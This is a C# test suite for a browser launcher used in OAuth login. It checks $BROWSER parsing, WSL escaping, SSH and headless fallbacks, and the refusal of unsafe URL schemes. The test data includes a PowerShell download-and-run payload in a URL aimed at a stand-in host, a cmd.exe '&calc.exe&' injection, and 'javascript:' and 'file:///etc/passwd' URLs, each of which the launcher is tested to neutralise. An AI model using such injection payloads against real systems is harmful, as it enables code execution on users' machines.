using O8Actors.Browser;

namespace O8Actors.Tests.Browser;

public sealed class SystemBrowserLauncherTests
{
    private static readonly Uri Url = new("https://provider.test/authorize?state=abc&x=1");

    [Fact]
    public void BROWSER_entries_come_first_with_the_url_in_place_of_percent_s_or_appended()
    {
        var launcher = new SystemBrowserLauncher(TextWriter.Null, name => name == "BROWSER" ? $"firefox --new-tab %s{Path.PathSeparator}lynx" : null);

        var candidates = launcher.Candidates(Url.AbsoluteUri).ToList();

        Assert.Equal("firefox", candidates[0].File);
        Assert.Equal(["--new-tab", Url.AbsoluteUri], candidates[0].Args);
        Assert.Equal("lynx", candidates[1].File);
        Assert.Equal([Url.AbsoluteUri], candidates[1].Args);
        Assert.True(candidates.Count > 2, "the platform opener follows $BROWSER");
    }

    /// <summary>
    /// Under WSL, wslview hands the URL to <c>powershell.exe -Command "Start \"url\""</c>, which expands <c>$name</c> and
    /// runs <c>$(…)</c> inside it: an authorization server whose endpoint carries one would run code on the Windows host.
    /// </summary>
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public async Task Under_WSL_the_opener_gets_the_url_with_nothing_PowerShell_would_expand(bool wsl)
    {
        var folder = Directory.CreateTempSubdirectory("o8-wslview-");
        try
        {
            var recorded = Path.Combine(folder.FullName, "url");
            var opener = Path.Combine(folder.FullName, "wslview");
            await OpenerEnvironment.WriteScriptAsync(opener, $"printf '%s' \"$1\" > '{recorded}'\n");
            var launcher = new SystemBrowserLauncher(TextWriter.Null, name => name switch
            {
                "BROWSER" => opener,
                "WSL_DISTRO_NAME" => wsl ? "Ubuntu" : null,
                _ => Environment.GetEnvironmentVariable(name),
            }) { KernelIsWsl = () => false };
            var hostile = new Uri("https://as.example/auth/$(iex(irm('as.example/p')))?tenant=$home&x=`a`&state=abc");

            Assert.True((await launcher.LaunchAsync(hostile, CancellationToken.None)).Launched);

            var got = await File.ReadAllTextAsync(recorded);
            if (wsl)
            {
                Assert.Equal("https://as.example/auth/%24(iex(irm('as.example/p')))?tenant=%24home&x=%60a%60&state=abc", got);
                Assert.DoesNotContain('$', got);
                Assert.DoesNotContain('`', got);
            }
            else
            {
                // Elsewhere no shell stands between the opener and the browser: the URL goes as it is.
                Assert.Equal(hostile.AbsoluteUri, got);
            }
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Fact]
    public void A_non_ASCII_host_goes_to_a_WSL_opener_in_its_ASCII_form()
    {
        Assert.Equal("https://xn--bcher-kva.example/a?q=%C3%BC%24", WindowsShellUrl.Of(new Uri("https://bücher.example/a?q=ü$")));
    }

    [Fact]
    public async Task A_working_opener_counts_as_launched()
    {
        var launcher = new SystemBrowserLauncher(TextWriter.Null, OpenerEnvironment.WithoutBrowser) { CandidatesOverride = url => [("true", [url])] };

        var result = await launcher.LaunchAsync(Url, CancellationToken.None);

        Assert.True(result.Launched);
        Assert.Equal("true", result.Detail);
    }

    [Fact]
    public async Task A_browser_the_opener_leaves_running_may_still_write_to_the_output_it_inherited()
    {
        // As xdg-open does: the opener starts the browser and exits, and the browser keeps the opener's output pipes.
        // They must still be read after the launch: closed under it, the browser's next line would kill it (SIGPIPE) or
        // fail (EPIPE, where the signal is ignored). The marker is written only when both lines were.
        var folder = Directory.CreateTempSubdirectory("o8-opener-");
        try
        {
            var alive = Path.Combine(folder.FullName, "alive");
            const string Opener = "(sleep 0.3; echo a line from the browser && echo a warning >&2 && echo yes > \"$1\") & exit 0";
            var launcher = new SystemBrowserLauncher(TextWriter.Null, OpenerEnvironment.WithoutBrowser) { CandidatesOverride = _ => [("sh", ["-c", Opener, "opener", alive])] };

            var result = await launcher.LaunchAsync(Url, CancellationToken.None);

            Assert.True(result.Launched);
            var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(10);
            while (!File.Exists(alive) && DateTime.UtcNow < deadline) await Task.Delay(50);
            Assert.True(File.Exists(alive), "the browser was killed when it wrote to the output its opener left it");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Fact]
    public async Task When_no_opener_works_it_prints_the_url_with_an_instruction_and_says_why()
    {
        var printed = new StringWriter();
        var launcher = new SystemBrowserLauncher(printed, OpenerEnvironment.WithoutBrowser)
        {
            CandidatesOverride = url => [("false", [url]), ("o8-no-such-browser-command", [url])],
        };

        var result = await launcher.LaunchAsync(Url, CancellationToken.None);

        Assert.False(result.Launched);
        Assert.Contains("false: exit code 1", result.Detail);
        Assert.Contains("o8-no-such-browser-command: not installed", result.Detail);
        Assert.Contains("Open this URL in a browser", printed.ToString());
        Assert.Contains(Url.AbsoluteUri, printed.ToString());
    }

    [Fact]
    public async Task An_empty_opener_entry_counts_as_not_installed_and_leaves_the_next_one_its_turn()
    {
        // Before openers were looked up on PATH, Process.Start threw InvalidOperationException for an empty name (not the
        // Win32Exception of a missing program) and the launch ended there; now the entry is simply not found.
        var launcher = new SystemBrowserLauncher(TextWriter.Null, OpenerEnvironment.WithoutBrowser) { CandidatesOverride = url => [("", [url]), ("true", [url])] };

        var result = await launcher.LaunchAsync(Url, CancellationToken.None);

        Assert.True(result.Launched);
        Assert.Equal("true", result.Detail);
    }

    [Fact]
    public async Task A_BROWSER_entry_that_is_a_path_is_run_as_the_users_own_choice()
    {
        if (OperatingSystem.IsWindows()) return; // The browser is a shell script.
        var folder = Directory.CreateTempSubdirectory("o8-browser-");
        try
        {
            var browser = Path.Combine(folder.FullName, "my-browser");
            var received = Path.Combine(folder.FullName, "received");
            await OpenerEnvironment.WriteScriptAsync(browser, $"echo \"$1\" > '{received}'\n");
            var launcher = new SystemBrowserLauncher(TextWriter.Null, name => name == "BROWSER" ? browser : null);

            var result = await launcher.LaunchAsync(Url, CancellationToken.None);

            Assert.True(result.Launched);
            Assert.Equal("my-browser", result.Detail);
            Assert.Equal(Url.AbsoluteUri, (await File.ReadAllTextAsync(received)).Trim());
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    /// <summary>
    /// A text browser named in <c>$BROWSER</c> (usual over SSH) was run like any opener: with no terminal it showed
    /// nothing, and when it kept running it counted as opened, so the URL was never printed and the login timed out.
    /// </summary>
    [Theory]
    [InlineData("lynx")]
    [InlineData("w3m")]
    [InlineData("www-browser")]
    public async Task A_terminal_browser_in_BROWSER_is_passed_over_and_the_url_printed_for_it(string name)
    {
        if (OperatingSystem.IsWindows()) return; // The planted browser is a shell script.
        var folder = Directory.CreateTempSubdirectory("o8-browser-");
        try
        {
            var browser = Path.Combine(folder.FullName, name);
            var ran = Path.Combine(folder.FullName, "ran");
            await OpenerEnvironment.WriteScriptAsync(browser, $"echo yes > '{ran}'\nsleep 30\n");
            var printed = new StringWriter();
            var launcher = new SystemBrowserLauncher(printed, variable => variable switch
            {
                "BROWSER" => name,
                "PATH" => folder.FullName,
                _ => null,
            });

            var result = await launcher.LaunchAsync(Url, CancellationToken.None);

            Assert.False(result.Launched);
            Assert.Contains($"{name}: a terminal browser", result.Detail);
            Assert.Contains(Url.AbsoluteUri, printed.ToString());
            Assert.False(File.Exists(ran), "the terminal browser was started without a terminal");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    /// <summary>
    /// A machine with no display (a server, a container, SSH without X forwarding): xdg-open there runs a text browser
    /// from its fallback list (www-browser, lynx, w3m), which with no terminal dumps the page and exits 0. Counted as
    /// opened, nothing was shown or printed and the login timed out. xdg-open is not run without a display now.
    /// </summary>
    /// <summary>
    /// In an SSH session an opener works on the remote machine: xdg-open under a DISPLAY a tmux session kept (or open on a
    /// Mac with a desktop session) exits 0 and the browser shows where the user is not. It counted as opened and nothing
    /// was printed, so the login timed out; the URL is printed beside it now. Outside SSH nothing is printed.
    /// </summary>
    [Theory]
    [InlineData("SSH_CONNECTION", "203.0.113.7 50022 192.0.2.10 22")]
    [InlineData("SSH_TTY", "/dev/pts/3")]
    [InlineData(null, null)]
    public async Task An_opener_that_works_in_an_SSH_session_still_has_the_url_printed(string? variable, string? value)
    {
        if (OperatingSystem.IsWindows() || !HeadlessDetection.PlatformNeedsDisplay) return; // xdg-open is Linux's and the BSDs' opener.
        var folder = Directory.CreateTempSubdirectory("o8-ssh-");
        try
        {
            var ran = Path.Combine(folder.FullName, "ran");
            await OpenerEnvironment.WriteScriptAsync(Path.Combine(folder.FullName, "xdg-open"), $"echo \"$1\" > '{ran}'\nexit 0\n");
            var printed = new StringWriter();
            var launcher = new SystemBrowserLauncher(printed, name => name switch
            {
                "DISPLAY" => ":0",
                "PATH" => folder.FullName,
                _ when name == variable => value,
                _ => null,
            }) { KernelIsWsl = () => false };

            var result = await launcher.LaunchAsync(Url, CancellationToken.None);

            Assert.True(result.Launched);
            Assert.Equal(Url.AbsoluteUri, (await File.ReadAllTextAsync(ran)).Trim());
            if (variable is null)
            {
                Assert.Equal("", printed.ToString());
                return;
            }

            Assert.Contains("an SSH session", printed.ToString());
            Assert.Contains(Url.AbsoluteUri, printed.ToString());
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    /// <summary>
    /// On Windows a <c>$BROWSER</c> path to a .cmd or .bat wrapper ran through cmd.exe, which splits the URL at each
    /// <c>&amp;</c> into commands: the browser got a cut URL, and an endpoint carrying <c>&amp;calc.exe&amp;</c> ran that.
    /// Such a path is refused, as the PATH lookup refuses those files; a program, with or without its .exe, is taken.
    /// </summary>
    [Theory]
    [InlineData(@"C:\Tools\work-browser.cmd", ".cmd")]
    [InlineData(@"C:\Tools\work-browser.BAT", ".BAT")]
    [InlineData(@"C:\Tools\open.ps1", ".ps1")]
    [InlineData(@"C:\Tools\work-browser.cmd.", ".cmd")] // Windows drops the trailing dot and runs the .cmd
    [InlineData(@"C:\Tools\work-browser.cmd . ", ".cmd")]
    [InlineData(@"C:\Program Files\Mozilla Firefox\firefox.exe", null)]
    [InlineData(@"C:\Tools.d\browser", null)]
    public void On_Windows_a_BROWSER_path_that_is_not_a_program_is_refused(string path, string? refusedExtension)
    {
        var resolved = SystemBrowserLauncher.Resolve(path, _ => null, windows: true, out var refused);

        if (refusedExtension is null)
        {
            Assert.Null(refused);
            Assert.NotNull(resolved);
            return;
        }

        Assert.Null(resolved);
        Assert.Contains($"a {refusedExtension} file", refused);
        Assert.Contains("cmd.exe", refused);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("w3m")]
    public async Task Without_a_display_xdg_open_is_not_run_and_the_url_is_printed(string? browserVariable)
    {
        if (OperatingSystem.IsWindows() || !HeadlessDetection.PlatformNeedsDisplay) return; // xdg-open is Linux's and the BSDs' opener.
        var folder = Directory.CreateTempSubdirectory("o8-headless-");
        try
        {
            var ran = Path.Combine(folder.FullName, "ran");
            foreach (var name in new[] { "xdg-open", "w3m" })
            {
                var script = Path.Combine(folder.FullName, name);
                await OpenerEnvironment.WriteScriptAsync(script, $"echo {name} >> '{ran}'\nexit 0\n");
            }

            var printed = new StringWriter();
            var launcher = new SystemBrowserLauncher(printed, variable => variable switch
            {
                "BROWSER" => browserVariable,
                "PATH" => folder.FullName,
                _ => null,
            });

            var result = await launcher.LaunchAsync(Url, CancellationToken.None);

            Assert.False(result.Launched);
            Assert.Contains("xdg-open: no display", result.Detail);
            Assert.Contains(Url.AbsoluteUri, printed.ToString());
            Assert.False(File.Exists(ran), "an opener ran without a display");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Theory]
    [InlineData("file:///etc/passwd", "file")]
    [InlineData("javascript:alert(document.cookie)", "javascript")]
    [InlineData("vscode://evil/command?state=abc", "vscode")]
    [InlineData("ms-settings:privacy", "ms-settings")]
    [InlineData("http://provider.test/authorize?state=abc", "http (not loopback)")]
    [InlineData("ftp://provider.test/authorize", "ftp")]
    public async Task A_URL_that_is_not_a_web_page_is_refused_before_any_opener_runs(string url, string scheme)
    {
        var openersAsked = 0;
        var printed = new StringWriter();
        var launcher = new SystemBrowserLauncher(printed, OpenerEnvironment.WithoutBrowser)
        {
            CandidatesOverride = u => { openersAsked++; return [("true", [u])]; },
        };

        var error = await Assert.ThrowsAsync<BrowserLaunchRefusedException>(() => launcher.LaunchAsync(new Uri(url), CancellationToken.None));

        Assert.Equal(scheme, error.Scheme);
        Assert.Equal(0, openersAsked);
        Assert.Empty(printed.ToString());
        Assert.DoesNotContain("state=abc", error.Message);
        Assert.IsAssignableFrom<OAuthFlowException>(error);
    }

    [Theory]
    [InlineData("http://127.0.0.1:8080/authorize?state=abc")]
    [InlineData("http://localhost:8080/authorize")]
    [InlineData("http://[::1]:8080/authorize")]
    [InlineData("https://provider.test/authorize")]
    public async Task Https_anywhere_and_http_on_loopback_are_opened(string url)
    {
        var launcher = new SystemBrowserLauncher(TextWriter.Null, OpenerEnvironment.WithoutBrowser) { CandidatesOverride = u => [("true", [u])] };

        var result = await launcher.LaunchAsync(new Uri(url), CancellationToken.None);

        Assert.True(result.Launched);
    }
}
